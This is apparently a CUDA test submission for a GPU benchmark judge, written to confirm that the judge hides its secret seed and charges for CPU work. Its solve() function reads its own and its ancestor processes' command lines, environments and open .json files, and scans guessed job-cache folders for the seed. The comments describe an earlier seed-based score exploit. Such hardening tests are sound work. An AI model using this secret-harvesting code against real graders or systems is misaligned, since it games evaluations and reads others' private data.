// expect: accepted
// judge-command: submit
// expect-output-lacks: SEED-FOUND
// expect-output-lacks: {seed}
// Attacker's intent: work on the CPU, helped by the seed. Against the old judge a submission read the job's secret
// seed, regenerated the inputs on the host, summed them there and had the GPU only store the sum: "116% of speed of
// light". This one first hunts for the seed wherever this run might keep it (its own and its ancestors' command
// lines and environments, the files its ancestors hold open, job files under every cache folder it can guess:
// $JUDGE_CACHE_DIR/jobs, ~/.cache/judge/jobs, /root/.cache/judge/jobs, /tmp) and prints `SEED-FOUND <where>` for
// each find; then it does the work on the host anyway: one copy of the input to host memory (the only GPU work the
// trace sees) and the sum in double precision on four host threads.
// Harmless when the seed is out of reach (nothing printed, and the report's seed appears nowhere in the output) and
// host work inside solve() is paid for. It is either way: the host sum lies between the copy out and the copy of
// the sum back, both in the GPU trace, so the GPU span holds it (measured on an H200: 136 ms charged for 2^28
// floats, `charged: gpu`); had the trace missed it, the trusted clock would charge it. The sum is right, so
// `accepted`, at the honest price of a host reduction.
#include <cuda_runtime.h>

#include <dirent.h>
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include <algorithm>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <map>
#include <string>
#include <thread>
#include <vector>

#include "judge_paths.cuh"

namespace {

// The number after `"seed":`, `--seed` or `SEED=` in a text, if it is long enough to be a secret seed.
std::string seed_in(const std::string& text) {
  for (const char* key : {"\"seed\"", "--seed", "SEED="}) {
    for (size_t at = text.find(key); at != std::string::npos; at = text.find(key, at + 1)) {
      size_t i = at + std::strlen(key);
      while (i < text.size() && (text[i] == ' ' || text[i] == ':' || text[i] == '=' || text[i] == '\0' ||
                                 text[i] == '"' || text[i] == '\n'))
        ++i;
      size_t j = i;
      while (j < text.size() && text[j] >= '0' && text[j] <= '9') ++j;
      if (j - i >= 10) return text.substr(i, j - i);  // a random 64-bit seed, not a small setting
    }
  }
  return {};
}

int finds = 0;

void look(const std::string& what, const std::string& text) {
  std::string seed = seed_in(text);
  if (seed.empty()) return;
  ++finds;
  say("SEED-FOUND " + what + " seed=" + seed);
}

void look_at_job_files(const std::string& dir) {
  for (const auto& name : list_dir(dir))
    if (name.find(".json") != std::string::npos) look(dir + "/" + name, slurp(dir + "/" + name, 1 << 16));
}

void hunt_for_the_seed() {
  look("/proc/self/cmdline", slurp("/proc/self/cmdline"));
  look("/proc/self/environ", slurp("/proc/self/environ"));
  // Every ancestor (reading hurts nobody): command line, environment, and the files it holds open.
  for (int pid = getppid(), depth = 0; pid > 1 && depth < 10; pid = parent_of(pid), ++depth) {
    const std::string proc = "/proc/" + std::to_string(pid);
    look(proc + "/cmdline", slurp(proc + "/cmdline"));
    look(proc + "/environ", slurp(proc + "/environ"));
    for (const auto& fd : list_dir(proc + "/fd")) {
      char target[4096] = {0};
      ssize_t n = readlink((proc + "/fd/" + fd).c_str(), target, sizeof target - 1);
      if (n > 0 && std::strstr(target, ".json"))
        look(proc + "/fd/" + fd + " -> " + target, slurp(proc + "/fd/" + fd));
    }
  }
  Places places = find_places();
  std::vector<std::string> job_dirs;
  for (const auto& cache : places.caches) add_unique(job_dirs, cache + "/jobs");
  for (const char* guess : {"/root/.cache/judge/jobs", "/tmp", "/var/tmp"}) add_unique(job_dirs, guess);
  for (const auto& home : list_dir("/home")) add_unique(job_dirs, "/home/" + home + "/.cache/judge/jobs");
  for (const auto& dir : job_dirs) look_at_job_files(dir);
  std::fprintf(stderr, "seed hunt: %d finds in %zu job folders and this process's ancestry\n", finds,
               job_dirs.size());
  std::fflush(stderr);
}

__global__ void block_sums(const float* x, float* out, int n) {
  __shared__ float partial[256];
  float s = 0.0f;
  for (int i = blockIdx.x * blockDim.x + threadIdx.x; i < n; i += gridDim.x * blockDim.x) s += x[i];
  partial[threadIdx.x] = s;
  __syncthreads();
  for (int stride = blockDim.x / 2; stride > 0; stride /= 2) {
    if (threadIdx.x < stride) partial[threadIdx.x] += partial[threadIdx.x + stride];
    __syncthreads();
  }
  if (threadIdx.x == 0) atomicAdd(out, partial[0]);
}

// The sum on the host, in double, on four threads.
double host_sum(const float* x, size_t n) {
  constexpr int kThreads = 4;
  double part[kThreads] = {};
  std::vector<std::thread> threads;
  for (int t = 0; t < kThreads; ++t)
    threads.emplace_back([&, t] {
      const size_t lo = n * t / kThreads, hi = n * (t + 1) / kThreads;
      double a = 0, b = 0, c = 0, d = 0;
      size_t i = lo;
      for (; i + 4 <= hi; i += 4) {
        a += x[i];
        b += x[i + 1];
        c += x[i + 2];
        d += x[i + 3];
      }
      for (; i < hi; ++i) a += x[i];
      part[t] = (a + b) + (c + d);
    });
  for (auto& t : threads) t.join();
  double s = 0;
  for (double p : part) s += p;
  return s;
}

}  // namespace

extern "C" void solve(const float* input, float* output, int N) {
  static bool hunted = false;
  if (!hunted) {
    hunted = true;
    hunt_for_the_seed();
  }
  static std::vector<float> host;
  bool on_host = true;
  try {
    if (host.size() < static_cast<size_t>(N)) host.resize(N);
  } catch (const std::bad_alloc&) {
    on_host = false;
  }
  if (on_host && cudaMemcpy(host.data(), input, static_cast<size_t>(N) * sizeof(float), cudaMemcpyDeviceToHost) ==
                     cudaSuccess) {
    const float sum = static_cast<float>(host_sum(host.data(), N));
    cudaMemcpy(output, &sum, sizeof sum, cudaMemcpyHostToDevice);
    return;
  }
  // No room on the host: the honest GPU way.
  cudaMemset(output, 0, sizeof(float));
  block_sums<<<1024, 256>>>(input, output, N);
  cudaDeviceSynchronize();
}
